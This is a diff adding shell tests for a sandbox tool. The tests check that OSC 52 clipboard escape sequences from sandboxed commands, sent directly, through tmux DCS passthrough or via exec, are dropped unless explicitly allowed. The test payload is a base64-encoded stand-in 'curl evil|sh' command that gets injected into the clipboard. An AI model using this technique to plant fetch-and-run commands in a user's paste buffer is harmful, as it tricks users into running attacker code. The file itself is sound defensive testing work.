@@ -269,3 +269,107 @@ PY
 	as_user rm -rf "$PROJ/hide-$how"
 done
 rm -rf "$TH"
+
+# The clipboard through the terminal (OSC 52).  tmux with set-clipboard on
+# takes an application's OSC 52 into its paste buffer (and passes it on to
+# the terminal it runs in): a command in the cage could put `curl evil|sh`
+# where the user pastes next, or read the clipboard back.  The relays drop
+# it (also wrapped in tmux's DCS passthrough) unless --allow-clipboard;
+# bytes to a file are not touched.
+CB=$(mktemp -d /tmp/ltd-e2e-clip.XXXXXX)
+chmod 777 "$CB"
+CLIP=Y3VybCBldmlsfHNo # "curl evil|sh"
+printf "printf '\\\\033]52;c;%s\\\\a'\n" "$CLIP" >"$CB/osc52.sh"
+printf "printf '\\\\033Ptmux;\\\\033\\\\033]52;c;%s\\\\a\\\\033\\\\\\\\\\\\\\\\'\n" "$CLIP" >"$CB/dcs52.sh"
+chmod 644 "$CB"/*.sh
+CN=0
+tmc() { as_user tmux -L "ltd-e2e-clip-$$-$CN" "$@"; }
+# clip_pane CMD: CMD in a new tmux server's window (set-clipboard on), its
+# exit status in $CB/rc; then the server's paste buffers in $BUFS and the
+# pane in $PANE.
+clip_pane() {
+	tmc kill-server 2>/dev/null
+	CN=$((CN + 1))
+	rm -f "$CB/rc"
+	tmc new-session -d -x 120 -y 30 -c "$PROJ" "sleep 60"
+	tmc set -g set-clipboard on
+	tmc new-window -c "$PROJ" "$1; echo \$? > $CB/rc; sleep 60"
+	for _ in $(seq 200); do [ -s "$CB/rc" ] && break; sleep 0.05; done
+	sleep 0.3
+	BUFS=$(tmc list-buffers 2>&1)
+	PANE=$(tmc capture-pane -p -J)
+}
+RUN_CB="$LTD run --ro-bind $STAGE $STAGE --ro-bind $CB $CB --network none"
+
+clip_pane "$RUN_CB -- sh $CB/osc52.sh"
+if printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
+	fail "clipboard: an OSC 52 from the cage does not reach tmux's paste buffer" "$BUFS"
+else
+	pass "clipboard: an OSC 52 from the cage does not reach tmux's paste buffer"
+fi
+printf '%s\n' "$PANE" | grep -q 'warning: the command wrote 1 clipboard sequence (OSC 52) .*dropped' &&
+	pass "clipboard: the exit report says how many were dropped" ||
+	fail "clipboard: the exit report says how many were dropped" "$PANE"
+clip_pane "$RUN_CB --allow-clipboard -- sh $CB/osc52.sh"
+printf '%s\n' "$BUFS" | grep -q 'curl evil|sh' &&
+	pass "clipboard: --allow-clipboard lets it through (the test sees one)" ||
+	fail "clipboard: --allow-clipboard lets it through (the test sees one)" "$BUFS"
+clip_pane "$RUN_CB -- sh $CB/osc52.sh </dev/null"
+if printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
+	fail "clipboard: dropped on the terminal-on-stdout relay too (no pty)" "$BUFS"
+else
+	pass "clipboard: dropped on the terminal-on-stdout relay too (no pty)"
+fi
+clip_pane "$RUN_CB -- sh $CB/osc52.sh > $CB/out.bin"
+if grep -q "]52;c;$CLIP" "$CB/out.bin" 2>/dev/null; then
+	pass "clipboard: bytes to a file are not touched"
+else
+	fail "clipboard: bytes to a file are not touched" "$(od -c "$CB/out.bin" | head -5)"
+fi
+# tmux inside tmux: the inner one (allow-passthrough on) unwraps its DCS
+# passthrough and hands the OSC 52 to the outer one.
+cat >"$CB/inner.sh" <<INNER
+tmux -L ltd-e2e-clipin-$$ -f /dev/null new-session -d -x 100 -y 25 -c "$PROJ" "sleep 60"
+tmux -L ltd-e2e-clipin-$$ set -g allow-passthrough on
+tmux -L ltd-e2e-clipin-$$ new-window -c "$PROJ" "$RUN_CB -- sh $CB/dcs52.sh; echo \\\$? > $CB/rc-in; sleep 60"
+tmux -L ltd-e2e-clipin-$$ attach
+INNER
+chmod 644 "$CB/inner.sh"
+rm -f "$CB/rc-in"
+tmc kill-server 2>/dev/null
+CN=$((CN + 1))
+tmc new-session -d -x 120 -y 30 -c "$PROJ" "sleep 60"
+tmc set -g set-clipboard on
+tmc new-window -c "$PROJ" "sh $CB/inner.sh"
+for _ in $(seq 200); do [ -s "$CB/rc-in" ] && break; sleep 0.05; done
+sleep 0.5
+BUFS=$(tmc list-buffers 2>&1)
+if [ ! -s "$CB/rc-in" ]; then
+	fail "clipboard: the cage runs inside nested tmux" "$(tmc capture-pane -p)"
+elif printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
+	fail "clipboard: an OSC 52 in tmux's DCS passthrough does not reach the outer tmux" "$BUFS"
+else
+	pass "clipboard: an OSC 52 in tmux's DCS passthrough does not reach the outer tmux"
+fi
+as_user tmux -L "ltd-e2e-clipin-$$" kill-server 2>/dev/null
+# exec's relay: a command exec'd into a named cage.
+(cd "$PROJ" && exec "${USER_CMD[@]}" "$LTD" run --ro-bind "$STAGE" "$STAGE" --ro-bind "$CB" "$CB" \
+	--network none --name e2e-clip --keep-running -- sleep 300 >/dev/null 2>&1) &
+clipcage=$!
+for _ in $(seq 100); do
+	as_user "$LTD" ps 2>/dev/null | grep -q e2e-clip && break
+	sleep 0.05
+done
+clip_pane "$LTD exec e2e-clip -- sh $CB/osc52.sh"
+if printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
+	fail "clipboard: an OSC 52 from an exec'd command does not reach the paste buffer" "$BUFS"
+else
+	pass "clipboard: an OSC 52 from an exec'd command does not reach the paste buffer"
+fi
+printf '%s\n' "$PANE" | grep -q 'warning: the command wrote 1 clipboard sequence' &&
+	pass "clipboard: exec says it dropped one" ||
+	fail "clipboard: exec says it dropped one" "$PANE"
+as_user "$LTD" kill e2e-clip >/dev/null 2>&1
+wait "$clipcage" 2>/dev/null
+tmc kill-server 2>/dev/null
+rm -rf "$CB"
